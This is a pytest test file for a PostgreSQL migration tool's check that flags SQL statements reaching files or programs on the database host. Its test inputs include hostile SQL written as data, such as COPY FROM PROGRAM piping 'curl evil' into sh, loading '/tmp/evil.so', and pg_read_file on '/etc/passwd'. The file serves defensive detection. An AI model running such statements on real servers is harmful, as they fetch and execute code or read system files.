"""Which statements reach files and programs of the server's host."""

from __future__ import annotations

import pytest

from pgmig_tui.impact.outside import outside
from pgmig_tui.script.statement import Statement


def reach(sql: str) -> str:
    return outside(Statement("x.sql", 1, 1, sql))


@pytest.mark.parametrize(
    ("sql", "what"),
    [
        ("COPY t TO '/tmp/x'", "the file '/tmp/x'"),
        ("COPY t FROM '/tmp/x' WITH (FORMAT csv)", "the file '/tmp/x'"),
        ("COPY (SELECT 1) TO PROGRAM 'sh -c evil'", "the program 'sh -c evil'"),
        ("COPY t FROM PROGRAM 'curl evil | sh'", "the program 'curl evil | sh'"),
        ("CREATE TABLESPACE fast LOCATION '/mnt/fast'", "the folder '/mnt/fast'"),
        ("LOAD '/tmp/evil.so'", "the library '/tmp/evil.so'"),
        ("SELECT lo_export(1, '/tmp/x')", "(lo_export)"),
        ("INSERT INTO t SELECT pg_catalog.pg_read_file('/etc/passwd')", "(pg_read_file)"),
        ("DO $$BEGIN COPY t TO PROGRAM 'sh'; END$$", "COPY t TO PROGRAM"),
        ("DO $$BEGIN EXECUTE 'COPY t FROM ''/tmp/x'''; END$$", "COPY t FROM"),
        ("DO $$BEGIN EXECUTE format('COPY t TO %L', '/tmp/x'); END$$", "COPY t TO %"),
        ("DO $$BEGIN PERFORM lo_import('/tmp/x'); END$$", "lo_import"),
    ],
)
def test_what_reaches_outside_the_database_is_named(sql: str, what: str) -> None:
    assert what in reach(sql)


@pytest.mark.parametrize(
    "sql",
    [
        "COPY t FROM STDIN",
        "COPY t TO STDOUT",
        "CREATE TABLESPACE here LOCATION ''",
        "CREATE TABLE t (a int) TABLESPACE fast",
        "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$COPY t TO '/tmp/x'$$",
        "INSERT INTO t VALUES ('COPY t TO ''/tmp/x''')",
        "COMMENT ON TABLE t IS 'lo_export(1)'",
        "DO $$BEGIN RAISE NOTICE 'copy'; END$$",
    ],
)
def test_what_stays_inside_is_not(sql: str) -> None:
    assert reach(sql) == ""
